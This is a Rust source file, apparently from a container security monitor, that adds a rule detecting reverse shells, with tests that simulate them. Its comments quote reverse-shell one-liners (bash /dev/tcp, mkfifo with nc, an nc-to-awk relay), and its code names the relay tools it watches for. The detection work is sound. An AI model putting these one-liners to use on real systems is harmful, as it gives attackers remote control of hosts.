@@ -1,0 +1,363 @@
+//! Shells and interpreters that take their commands from the network.
+
+use super::pipes::fetches;
+use super::shells::{bare, shell};
+use crate::detect::case::Case;
+use crate::detect::memory::{BESIDE, Outbound};
+use crate::detect::{Fact, Look, Rule, RuleInfo, Severity, programs};
+use crate::event::{Connect, Endpoint, Exec, Protocol};
+use crate::state::{ConnectionKey, Direction, Phase, ProcessEntry};
+
+/// A connection older than this does not explain a shell.
+const FRESH: u64 = 30;
+/// Shells without a script remembered in one container.
+const MAX_BARE: usize = 32;
+
+/// Reverse shell.
+pub(super) const RULE: Rule = Rule {
+    info: RuleInfo {
+        id: "net.reverse-shell",
+        title: "A shell is connected to the network",
+        severity: Severity::Critical,
+        attack: &["T1059.004", "T1571"],
+        needs: &[Fact::Exec, Fact::Connect],
+        explain: "A process connected out and then became a shell or started one that takes its \
+                  commands from it: directly, through a pipe, or through a fifo. It counts \
+                  whichever program made the connection.",
+        check: "The peer; cut the container off the network before anything else.",
+    },
+    looks: &[Look::Exec(reverse), Look::Connect(reverse_pipe)],
+};
+
+/// A recent connection out of the container's network to somebody else.
+fn fresh(case: &Case<'_>, pid: u32) -> Option<Outbound> {
+    let out = case.memory.outbound.get(&pid)?;
+    let recent = case.now().since(out.ts).as_secs() <= FRESH;
+    // Names are asked for and logs are sent by every program.
+    let aside = out.to.ip().is_unspecified() || matches!(out.to.port(), 53 | 514);
+    (recent && !aside).then_some(*out)
+}
+
+fn reverse(case: &mut Case<'_>, exec: &Exec) {
+    let pid = case.event.pid;
+    if shell(exec).is_none() {
+        // Another interpreter may take its program from a socket just as well.
+        if let Some(out) = fresh(case, pid).filter(|_| bare(exec)) {
+            let command = programs::command_line(&exec.argv, &exec.exe, 160);
+            raise_reverse(case, &out, &command);
+            return;
+        }
+        // One that reads its program from a pipe is remembered for the pipe's rule.
+        remember_bare(case, exec);
+        return;
+    }
+    // The same process connected, then became a shell: with any arguments.
+    let own = fresh(case, pid).filter(|out| !closed(case, out));
+    // Its parent connected, and the shell waits for commands.
+    let parents = || {
+        let parent = case.ancestors().nth(1)?;
+        // A shell that connected itself hands on what it read; a relay's neighbour does so, too.
+        if !bare(exec) {
+            let relays = programs::is_shell(programs::of(parent)) || has_text(parent);
+            let out = relays.then(|| fresh(case, parent.pid)).flatten();
+            let out = out.filter(|out| !closed(case, out));
+            return out.or_else(|| relayed(case, parent));
+        }
+        if exec.tty && case.session().is_some() {
+            return None;
+        }
+        // A downloader's child shell runs what was fetched; a server's is another story. Forks
+        // in between have no program of their own.
+        case.ancestors()
+            .skip(1)
+            .take(3)
+            .take_while(|p| p.exe == parent.exe)
+            .find_map(|p| fresh(case, p.pid))
+    };
+    let Some(out) = own.or_else(parents) else {
+        remember_bare(case, exec);
+        return;
+    };
+    raise_reverse(
+        case,
+        &out,
+        &programs::command_line(&exec.argv, &exec.exe, 160),
+    );
+}
+
+/// An interpreter that runs a text given as an argument, which no service does.
+fn has_text(process: &ProcessEntry) -> bool {
+    programs::is_interpreter(programs::of(process))
+        && process
+            .argv
+            .iter()
+            .skip(1)
+            .take_while(|a| a.starts_with(b"-"))
+            .any(|a| !a.starts_with(b"--") && (a.ends_with(b"c") || a.ends_with(b"e")))
+}
+
+/// Nothing is connected to that peer any more: somebody looked whether it answers.
+fn closed(case: &Case<'_>, out: &Outbound) -> bool {
+    let key = ConnectionKey {
+        owner: Some(case.owner.clone()),
+        direction: Direction::Outbound,
+        protocol: Protocol::Tcp,
+        endpoint: Endpoint::Inet(out.to),
+    };
+    let row = case.state.connections.get(&key);
+    row.is_some_and(|row| row.open == 0 && row.phase == Phase::Closed)
+}
+
+/// An interpreter that starts shells stands beside a relay with a connection: `nc … | awk …`.
+fn relayed(case: &Case<'_>, parent: &ProcessEntry) -> Option<Outbound> {
+    if !programs::is_interpreter(programs::of(parent)) {
+        return None;
+    }
+    let beside = case.memory.get(case.owner)?.beside(parent.ppid);
+    beside
+        .iter()
+        .filter_map(|pid| case.state.processes.get(pid))
+        .filter(|p| p.pid != parent.pid && p.owner.as_ref() == Some(case.owner))
+        // One pipe: they began together.
+        .filter(|p| p.started.since(parent.started) <= BESIDE)
+        .filter(|p| parent.started.since(p.started) <= BESIDE)
+        .filter(|p| {
+            let name = programs::of(p);
+            matches!(
+                name,
+                b"nc" | b"ncat" | b"netcat" | b"socat" | b"telnet" | b"openssl"
+            )
+        })
+        .find_map(|p| fresh(case, p.pid))
+        .filter(|out| !out.to.ip().is_loopback())
+}
+
+fn raise_reverse(case: &mut Case<'_>, out: &Outbound, command: &str) -> Option<usize> {
+    let subject = out.to.to_string();
+    let place = case.raise(Severity::Critical, subject.as_bytes(), |_, told| {
+        told.title = format!("A shell is connected to {}", out.to);
+        told.why.push(format!("shell: {command}"));
+        told.why.push(format!("connected to {}", out.to));
+    });
+    if let Some(place) = place {
+        case.stories.attach(place, case.now(), out.seq);
+        case.memory.mark(case.event.pid, place);
+    }
+    place
+}
+
+/// A shell that waits for commands may get them from a sibling that connects later.
+fn remember_bare(case: &mut Case<'_>, exec: &Exec) {
+    if !bare(exec) || exec.tty {
+        return;
+    }
+    let entry = (case.event.pid, exec.ppid, case.now(), case.event.seq);
+    let shells = &mut case.own().bare_shells;
+    shells.push_back(entry);
+    if shells.len() > MAX_BARE {
+        shells.pop_front();
+    }
+    if shell(exec).is_none() {
+        return;
+    }
+    // The sibling may have connected already.
+    let sibling = case
+        .state
+        .processes
+        .values()
+        .filter(|p| p.ppid == exec.ppid && p.pid != case.event.pid && p.exited.is_none())
+        .filter(|p| p.owner.as_ref() == Some(case.owner))
+        .find_map(|p| Some((fresh(case, p.pid)?, p.pid)));
+    if let Some((out, pid)) = sibling
+        && !is_fetch(case, pid)
+    {
+        let command = programs::command_line(&exec.argv, &exec.exe, 160);
+        raise_reverse(case, &out, &command);
+    }
+}
+
+/// The sibling fetches, it does not take commands: the pipe's own rule tells of it.
+fn is_fetch(case: &Case<'_>, pid: u32) -> bool {
+    case.state.processes.get(&pid).is_some_and(|p| {
+        matches!(
+            programs::of(p),
+            b"curl" | b"wget" | b"fetch" | b"aria2c" | b"axel"
+        ) || fetches(programs::of(p), &p.argv)
+    })
+}
+
+fn reverse_pipe(case: &mut Case<'_>, connect: &Connect) {
+    let Endpoint::Inet(to) = connect.remote else {
+        return;
+    };
+    if to.port() == 53 || is_fetch(case, case.event.pid) {
+        return;
+    }
+    let Some(process) = case.process else { return };
+    let now = case.now();
+    let Some(&(shell, _, _, seq)) = case.memory.get(case.owner).and_then(|own| {
+        own.bare_shells.iter().find(|(pid, parent, at, _)| {
+            *parent == process.ppid
+                && *pid != process.pid
+                && now.since(*at).as_secs() <= FRESH
+                && case
+                    .state
+                    .processes
+                    .get(pid)
+                    .is_some_and(|p| p.exited.is_none())
+        })
+    }) else {
+        return;
+    };
+    let command = programs::command_line(&process.argv, &process.exe, 160);
+    // A shell between two connections is one story.
+    let known = case.memory.marks.get(&shell).map(|place| *place as usize);
+    let known = known.filter(|place| {
+        let story = case.stories.findings().get(*place);
+        story.is_some_and(|f| f.rule == case.rule.id && f.silenced.is_none())
+    });
+    if let Some(place) = known {
+        case.stories
+            .explain(place, format!("connected to {to}, too, by {command}"));
+        case.stories.attach(place, now, case.event.seq);
+        return;
+    }
+    let out = Outbound { to, ts: now, seq };
+    if let Some(place) = raise_reverse(case, &out, &format!("fed by {command}")) {
+        case.memory.mark(shell, place);
+    }
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used)]
+mod tests {
+    use crate::detect::Severity;
+    use crate::detect::testkit::World;
+
+    #[test]
+    fn reverse_shells_in_three_ways() {
+        // bash -i >& /dev/tcp/…: the process connects, then becomes the shell.
+        let mut w = World::steady();
+        let init = w.init();
+        let p = w.fork(init);
+        w.connect(p, "10.9.8.7:4444");
+        w.exec_as(p, init, "/bin/bash", &["bash", "-i"], |_| {});
+        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
+        // python: connect, then a child shell.
+        let mut w = World::steady();
+        let init = w.init();
+        let p = w.exec(init, "/usr/bin/python3", &["python3", "-c", "x"]);
+        w.connect(p, "10.9.8.7:4444");
+        w.exec(p, "/bin/sh", &["/bin/sh", "-i"]);
+        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
+        // rm f; mkfifo f; cat f | sh -i 2>&1 | nc host port > f
+        let mut w = World::steady();
+        let init = w.init();
+        let sh = w.exec(init, "/bin/sh", &["sh", "-c", "x"]);
+        w.exec(sh, "/bin/cat", &["cat", "/tmp/f"]);
+        w.exec(sh, "/bin/busybox", &["sh", "-i"]);
+        let nc = w.exec(sh, "/bin/busybox", &["nc", "10.9.8.7", "4444"]);
+        w.connect(nc, "10.9.8.7:4444");
+        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
+    }
+
+    #[test]
+    fn a_shell_between_two_connections_is_one_story() {
+        let mut w = World::steady();
+        let init = w.init();
+        let sh = w.exec(init, "/bin/sh", &["sh", "-c", "x"]);
+        w.exec(sh, "/bin/busybox", &["sh"]);
+        for port in [4444, 4445] {
+            let to = format!("10.9.8.7:{port}");
+            let nc = w.exec(sh, "/bin/busybox", &["nc", "10.9.8.7"]);
+            w.connect(nc, &to);
+        }
+        let all = w.all("net.reverse-shell");
+        assert_eq!(all.len(), 1, "{all:?}");
+        let why = all[0].why.join("\n");
+        assert!(why.contains("10.9.8.7:4445"), "{why}");
+    }
+
+    #[test]
+    fn forks_between_the_connection_and_the_shell_do_not_hide_it() {
+        let mut w = World::steady();
+        let init = w.init();
+        let perl = w.exec(init, "/usr/bin/perl", &["perl", "-e", "x"]);
+        w.connect(perl, "10.9.8.7:4444");
+        let child = w.fork(perl);
+        let grandchild = w.fork(child);
+        w.exec_as(grandchild, child, "/bin/sh", &["/bin/sh", "-i"], |_| {});
+        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
+        // Another program in between makes it another's affair.
+        let mut w = World::steady();
+        let init = w.init();
+        let perl = w.exec(init, "/usr/bin/perl", &["perl", "-e", "x"]);
+        w.connect(perl, "10.9.8.7:4444");
+        let app = w.exec(perl, "/usr/bin/app", &["app"]);
+        w.exec(app, "/bin/sh", &["/bin/sh", "-i"]);
+        w.none("net.reverse-shell");
+    }
+
+    #[test]
+    fn reverse_shells_by_relays() {
+        // while read l; do sh -c "$l"; done, of a shell that has opened /dev/tcp itself.
+        let mut w = World::steady();
+        let init = w.init();
+        let bash = w.exec(init, "/bin/bash", &["bash", "-c", "x"]);
+        w.connect(bash, "10.9.8.7:4444");
+        w.exec(bash, "/bin/sh", &["sh", "-c", "id"]);
+        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
+        // nc … | awk '{ while ($0 | getline l) print l }'
+        let mut w = World::steady();
+        let init = w.init();
+        let sh = w.exec(init, "/bin/sh", &["sh", "-c", "x"]);
+        let nc = w.exec(sh, "/bin/nc.openbsd", &["nc", "10.9.8.7", "4444"]);
+        w.connect(nc, "10.9.8.7:4444");
+        let awk = w.exec(sh, "/usr/bin/mawk", &["awk", "{ $0 | getline }"]);
+        w.exec(awk, "/bin/sh", &["sh", "-c", "id"]);
+        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
+        // python -c '… for each line: os.system(line)'
+        let mut w = World::steady();
+        let init = w.init();
+        let python = w.exec(init, "/usr/bin/python3", &["python3", "-c", "x"]);
+        w.connect(python, "10.9.8.7:4444");
+        w.exec(python, "/bin/sh", &["sh", "-c", "id"]);
+        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
+        // An interpreter that reads its program from the socket.
+        let mut w = World::steady();
+        let init = w.init();
+        let p = w.fork(init);
+        w.connect(p, "10.9.8.7:4444");
+        w.exec_as(p, init, "/usr/bin/perl", &["perl"], |_| {});
+        assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
+        // A probe of a port, then a program; a relay beside a filter that starts nothing.
+        let mut w = World::steady();
+        let init = w.init();
+        let sh = w.exec(init, "/bin/bash", &["bash", "/wait.sh"]);
+        let probe = w.fork(sh);
+        w.connect(probe, "10.0.0.5:5432");
+        w.exit(probe);
+        w.exec(sh, "/bin/sh", &["sh", "-c", "migrate"]);
+        let nc = w.exec(sh, "/bin/nc", &["nc", "10.0.0.5", "80"]);
+        w.connect(nc, "10.0.0.5:80");
+        w.exec(sh, "/usr/bin/mawk", &["awk", "1"]);
+        w.none("net.reverse-shell");
+    }
+
+    #[test]
+    fn ordinary_shells_beside_connections_are_silent() {
+        let mut w = World::starting();
+        let init = w.init();
+        let app = w.exec(init, "/usr/bin/python3", &["python3", "app.py"]);
+        w.ticks(60);
+        // A service connects to its database and runs a command through the shell.
+        w.connect(app, "10.0.0.5:5432");
+        w.exec(app, "/bin/sh", &["sh", "-c", "ffmpeg -i x"]);
+        // A script's shell asks a resolver, then runs a script.
+        let sh = w.exec(init, "/bin/sh", &["sh", "/job.sh"]);
+        let curl = w.exec(sh, "/usr/bin/curl", &["curl", "x"]);
+        w.connect(curl, "10.0.0.9:80");
+        w.exec(sh, "/bin/sh", &["sh", "/other.sh"]);
+        w.only(&[]);
+    }
+}
